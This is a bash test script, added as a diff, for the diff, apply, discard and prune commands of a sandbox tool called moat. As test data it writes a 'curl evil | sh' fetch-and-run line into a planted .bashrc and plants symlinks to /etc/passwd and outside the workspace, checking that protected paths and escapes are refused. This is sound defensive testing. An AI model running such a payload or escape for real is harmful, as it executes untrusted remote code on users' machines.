@@ -1,0 +1,258 @@
+#!/bin/bash
+# moat diff, apply and discard: an overlay run's changes read back from its
+# kept layer, shown, and copied onto the host workspace (or thrown away).
+. "$(dirname "$0")/libtest.sh"
+require_sandbox
+WS=$(cd "$T/ws" && pwd -P)
+export MOAT_DB="$T/review.db"
+
+P="$T/ov.conf"
+printf 'include = default\nworkspace = overlay\n' >"$P"
+
+# The host workspace before the run.
+cd "$T/ws" || exit 1
+echo hello >edit.txt
+echo gone >del.txt
+echo move >old-name.txt
+echo mode >mode.sh
+mkdir -p dir/sub && echo a >dir/sub/a && echo b >dir/b
+printf 'bin\0ary' >blob.bin
+cd - >/dev/null || exit 1
+snap() { (cd "$T/ws" && find . -path ./.git -prune -o -printf '%p %y %m %s %l\n' | LC_ALL=C sort; cat edit.txt) ; }
+before=$(snap)
+passwd_sum=$(md5sum </etc/passwd)
+
+run_moat run -p "$P" -- sh -c '
+	echo more >> edit.txt; rm del.txt; mv old-name.txt new-name.txt
+	chmod 755 mode.sh; ln -s /etc/passwd link-out; ln -s dir/b link-in
+	echo fresh > dir/sub/new.txt; rm -rf dir/b; mkdir -p added/deep
+	echo deep > added/deep/f; printf "bin\0ery" > blob.bin; echo $MOAT_RUN_ID'
+is "the run worked" "$rc" 0
+rid=$out
+is "the host is unchanged by the run" "$(snap)" "$before"
+check "the layer holds moat's placeholders (so diff must skip them)" \
+	test -e "$XDG_STATE_HOME/moat/runs/$rid/upper/.bashrc"
+
+run_moat diff 1 --name-only
+is "diff --name-only lists exactly the changes, no placeholder" "$out" "added
+added/deep
+added/deep/f
+blob.bin
+del.txt
+dir/b
+dir/sub/new.txt
+edit.txt
+link-in
+link-out
+mode.sh
+new-name.txt
+old-name.txt"
+
+run_moat diff "${rid:0:12}"
+is "diff by run id prefix: exit 0" "$rc" 0
+like "diff: the summary counts the changes" "$out" "^run 1 \\($rid\\) in $WS: 13 changes"
+like "diff: a modification with its sizes" "$out" "modified  edit.txt  6 B -> 11 B"
+like "diff: a deletion" "$out" "deleted   del.txt  5 B"
+like "diff: a rename is a deletion and an addition" "$out" "added     new-name.txt"
+like "diff: a mode change" "$out" "mode      mode.sh  0644 -> 0755"
+like "diff: a symlink with its target" "$out" "symlink   link-out -> /etc/passwd"
+like "diff: an added directory" "$out" "added     added/deep/"
+like "diff: a unified diff of a text file" "$out" "$(printf -- '--- a/edit.txt\n\\+\\+\\+ b/edit.txt\n@@ -1 \\+1,2 @@\n hello\n\\+more')"
+like "diff: a binary file is named, not dumped" "$out" "Binary file blob.bin differs"
+unlike "diff: no colour in a pipe" "$out" $'\033'
+unlike "diff: no placeholder" "$out" "bashrc|\\.claude|npmrc"
+
+run_moat diff 1 --stat
+like "diff --stat: lines added and removed" "$out" "modified  edit.txt \\| \\+1 -0"
+run_moat diff --json 1 edit.txt
+like "diff --json: one object per change" "$out" '"path": "edit.txt", "kind": "modified", "type": "file", "old_mode": "0644", "old_size": 6, "new_mode": "0644", "new_size": 11'
+is "diff --json: only the path filtered" "$(printf '%s\n' "$out" | grep -c '"path"')" 1
+run_moat diff 1 'dir/*'
+like "diff: a glob filter" "$out" ": 2 changes"
+unlike "diff: a glob filter leaves out the rest" "$out" "edit.txt"
+if command -v script >/dev/null; then
+	script -qec "cd '$T/ws' && MOAT_DB='$MOAT_DB' '$MOAT' diff 1 edit.txt" /dev/null >"$T/tty.out" 2>&1
+	like "diff: coloured on a terminal" "$(cat "$T/tty.out")" $'\033\\[32m\\+more'
+else
+	skip "diff on a terminal: no script(1) here"
+fi
+run_moat diff 99
+is "diff of an unknown run: 125" "$rc" 125
+like "diff of an unknown run says what to give" "$err" 'no run "99".*moat audit list'
+run_moat diff
+like "diff without an ID says so" "$err" "which run"
+
+# A conflicting host edit: nothing applied, the path named, the edit kept.
+echo "mine" >"$T/ws/edit.txt"
+run_moat apply 1
+is "apply with a conflict: 125" "$rc" 125
+like "apply names the conflicting path" "$err" "changed in $WS since run 1 started.*
+  edit.txt"
+is "the host edit is not overwritten" "$(cat "$T/ws/edit.txt")" "mine"
+check "nothing else was applied" test -e "$T/ws/del.txt"
+run_moat apply 1 del.txt new-name.txt old-name.txt
+is "the other paths apply by name" "$rc" 0
+check "a deletion applied" test ! -e "$T/ws/del.txt"
+is "a rename applied" "$(cat "$T/ws/new-name.txt"; test -e "$T/ws/old-name.txt" || echo no-old)" "move
+no-old"
+is "the conflicting file is still mine" "$(cat "$T/ws/edit.txt")" "mine"
+
+# Undo the conflict: the host file as the run saw it (a new inode after the
+# run started still counts as a change, so move it aside and apply it by hand).
+rm "$T/ws/edit.txt"
+run_moat apply 1 edit.txt
+is "a file the host removed since the run: applied as added" "$rc $(cat "$T/ws/edit.txt")" "0 hello
+more"
+
+# A directory of the workspace swapped for a symlink that leads out: the
+# apply does not follow it.
+mkdir -p "$T/outside"
+mv "$T/ws/dir/sub" "$T/ws/dir/sub.real"
+ln -s "$T/outside" "$T/ws/dir/sub"
+run_moat apply 1 dir/sub/new.txt
+is "apply through a planted symlink: 125" "$rc" 125
+like "it says a link is on the way" "$err" "dir/sub: a symbolic link"
+check "nothing was written outside the workspace" test -z "$(ls -A "$T/outside")"
+rm "$T/ws/dir/sub" && mv "$T/ws/dir/sub.real" "$T/ws/dir/sub"
+
+run_moat apply 1
+is "the rest applies" "$rc" 0
+like "apply says what it did" "$out" "run 1: [0-9]+ changes applied to $WS"
+is "a modified file matches the layer" "$(cat "$T/ws/edit.txt")" "hello
+more"
+is "a mode is kept" "$(stat -c %a "$T/ws/mode.sh")" 755
+is "a symlink stays a symlink" "$(readlink "$T/ws/link-out")" /etc/passwd
+is "its target is untouched" "$(md5sum </etc/passwd)" "$passwd_sum"
+is "a relative symlink" "$(readlink "$T/ws/link-in")" dir/b
+check "a deleted file in a kept directory is gone" test ! -e "$T/ws/dir/b"
+is "a new file in an existing directory" "$(cat "$T/ws/dir/sub/new.txt")" fresh
+is "a new tree" "$(cat "$T/ws/added/deep/f")" deep
+is "binary content" "$(od -c "$T/ws/blob.bin" | head -1)" "$(printf 'bin\0ery' | od -c | head -1)"
+check "no placeholder reached the host" test ! -e "$T/ws/.bashrc" -a ! -e "$T/ws/.claude"
+run_moat diff 1 --name-only
+is "after the apply the layer shows no change" "$out" ""
+
+# The apply is recorded in the audit log, chained like any run.
+n=$(python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print(c.execute("SELECT count(*) FROM events e JOIN runs r ON r.id = e.run WHERE r.command LIKE ? AND e.kind = ?", ("moat apply " + sys.argv[2] + "%", "file")).fetchone()[0])' "$MOAT_DB" "$rid")
+check "each applied path is an event of the apply's row ($n)" test "$n" -ge 10
+run_moat audit verify
+is "the chain still verifies" "$rc" 0
+
+# Protected paths: never written by an apply, even when the layer holds one.
+UP="$XDG_STATE_HOME/moat/runs/$rid/upper"
+echo 'curl evil | sh' >"$UP/.bashrc"
+mkdir -p "$UP/tools" && echo hook >"$UP/tools/hook.sh"
+printf 'protect = tools/\n' >>"$P"
+run_moat diff 1
+like "diff marks a protected path" "$out" "added     .bashrc  15 B  \\(protected: never applied\\)"
+run_moat apply 1 .bashrc tools
+is "apply of only protected paths: nothing to apply" "$rc $out" "0 run 1: nothing to apply (only protected paths)"
+like "and it names them" "$err" "not applied \\(protected\\)  .bashrc"
+echo fine >"$UP/ok.txt"
+run_moat apply 1
+is "apply of protected and other paths: the others only" "$rc $(cat "$T/ws/ok.txt")" "0 fine"
+check "the protected file was not written" test ! -e "$T/ws/.bashrc"
+check "a path the profile now protects was not written" test ! -e "$T/ws/tools"
+
+# discard removes the layer; then there is nothing to review.
+run_moat discard 1
+is "discard: 0" "$rc $out" "0 run 1: layer discarded"
+check "the layer is gone" test ! -e "$XDG_STATE_HOME/moat/runs/$rid"
+run_moat diff 1
+like "diff after discard says why" "$err" "kept no layer.*discarded"
+run_moat discard 1
+is "discard twice: 125" "$rc" 125
+
+# A bind run kept no layer.
+run_moat run -p default -- sh -c 'echo $MOAT_RUN_ID'
+run_moat diff "$out"
+like "a bind run has no layer to review" "$err" "did not run with workspace = overlay"
+
+# A chain of three runs with --on: each sees what the one before left, the
+# host sees nothing, and one review of the last covers them all.
+mkdir -p "$T/ws2" && echo base >"$T/ws2/f.txt" && echo keep >"$T/ws2/k.txt"
+WS2=$(cd "$T/ws2" && pwd -P)
+on() { # on ARGS...: moat run in ws2; sets out, err, rc
+	(cd "$T/ws2" && "$MOAT" run "$@") >"$T/on.out" 2>"$T/on.err" </dev/null
+	rc=$?; out=$(cat "$T/on.out"); err=$(cat "$T/on.err")
+}
+on --review -- sh -c 'echo one >> f.txt; echo a > a.txt; echo $MOAT_RUN_ID >&2'
+r1=$err
+like "run --review without a terminal: the summary" "$out" "added     a.txt  2 B"
+like "and it says how to apply" "$out" "Nothing applied.*moat apply"
+on --on "$r1" -- sh -c 'cat f.txt a.txt; echo two >> f.txt; rm a.txt k.txt; echo b > b.txt; echo $MOAT_RUN_ID >&2'
+r2=$err
+is "the second run sees the first's changes" "$out" "base
+one
+a"
+(cd "$T" && "$MOAT" run --on "$r2" -- sh -c 'cat f.txt; ls; echo three >> f.txt; echo c > c.txt; echo $MOAT_RUN_ID >&2') >"$T/on.out" 2>"$T/on.err"
+r3=$(cat "$T/on.err")
+is "the third (from another directory: --on names the workspace) sees both" "$(cat "$T/on.out")" "base
+one
+two
+b.txt
+f.txt"
+is "the host saw none of it" "$(cd "$T/ws2" && ls && cat f.txt)" "f.txt
+k.txt
+base"
+run_moat diff "$r3" --name-only
+is "diff of the last run covers the chain" "$out" "b.txt
+c.txt
+f.txt
+k.txt"
+run_moat apply "$r3"
+is "apply of the chain" "$rc $(cd "$T/ws2" && ls && cat f.txt)" "0 b.txt
+c.txt
+f.txt
+base
+one
+two
+three"
+on --on nosuchrun -- true
+like "--on an unknown run: named" "$err" "--on nosuchrun: no run"
+on -w "$T/ws" --on "$r1" -- true
+like "--on with another workspace: refused" "$err" "worked in $WS2, not in"
+run_moat discard "$r1"
+on --on "$r3" -- true
+like "--on a chain with a discarded layer: refused" "$err" "kept no layer"
+
+# Pruning: a size cap removes the oldest layers, but not one a kept layer
+# stands on; --before removes those kept since before a date.
+on --review -- sh -c 'head -c 200000 /dev/zero > big; echo $MOAT_RUN_ID >&2'
+p1=$(printf '%s\n' "$err" | tail -1)
+on --on "$p1" -- sh -c 'echo small > s; echo $MOAT_RUN_ID >&2'
+p2=$(printf '%s\n' "$err" | tail -1)
+sleep 1.1
+on --review -- sh -c 'echo newest > n; echo $MOAT_RUN_ID >&2'
+p3=$(printf '%s\n' "$err" | tail -1)
+kept() { ls "$XDG_STATE_HOME/moat/runs" | sort | tr '\n' ' '; }
+before_prune=$(kept)
+run_moat audit prune --layers-max 100M
+like "prune under the cap removes nothing" "$out" "removed 0 kept overlay layers"
+is "every layer is still there" "$(kept)" "$before_prune"
+run_moat audit prune --layers-max 100K
+like "prune to a cap: says what it removed" "$out" "removed [1-9][0-9]* kept overlay layers"
+check "the newest layer stays" test -d "$XDG_STATE_HOME/moat/runs/$p3/upper"
+check "the big layer's chain is gone, child and parent" test ! -e "$XDG_STATE_HOME/moat/runs/$p1" -a ! -e "$XDG_STATE_HOME/moat/runs/$p2"
+run_moat audit prune --before "$(date -u -d '+1 day' '+%Y-%m-%d')"
+like "prune --before a date after every layer removes the rest" "$out" "removed 1 kept overlay layers"
+is "no layer is left" "$(kept)" ""
+run_moat audit prune --layers-max lots
+like "a bad size is named" "$err" "--layers-max needs a size"
+
+# --review on a terminal: a question per path.
+if command -v script >/dev/null; then
+	mkdir -p "$T/ws3" && echo a >"$T/ws3/a.txt"
+	# The answers come once the questions are up (moat drops earlier keys).
+	(sleep 3; printf 'd\n'; sleep 0.5; printf 'y\n'; sleep 0.5; printf 'n\n'; sleep 1) | (cd "$T/ws3" && script -qec "'$MOAT' run --review -- sh -c 'echo more >> a.txt; echo new > b.txt'" /dev/null) >"$T/tty.out" 2>&1
+	tout=$(tr -d '\r' <"$T/tty.out")
+	like "run --review asks per path" "$tout" "modified a.txt: apply\? \[y\]es \[n\]o \[d\]iff \[a\]ll \[q\]uit"
+	like "d shows the diff" "$tout" "\+more"
+	is "y applied the first, n left the second" "$(cat "$T/ws3/a.txt"; test -e "$T/ws3/b.txt" || echo no-b)" "a
+more
+no-b"
+else
+	skip "run --review on a terminal: no script(1) here"
+fi
+
+done_testing
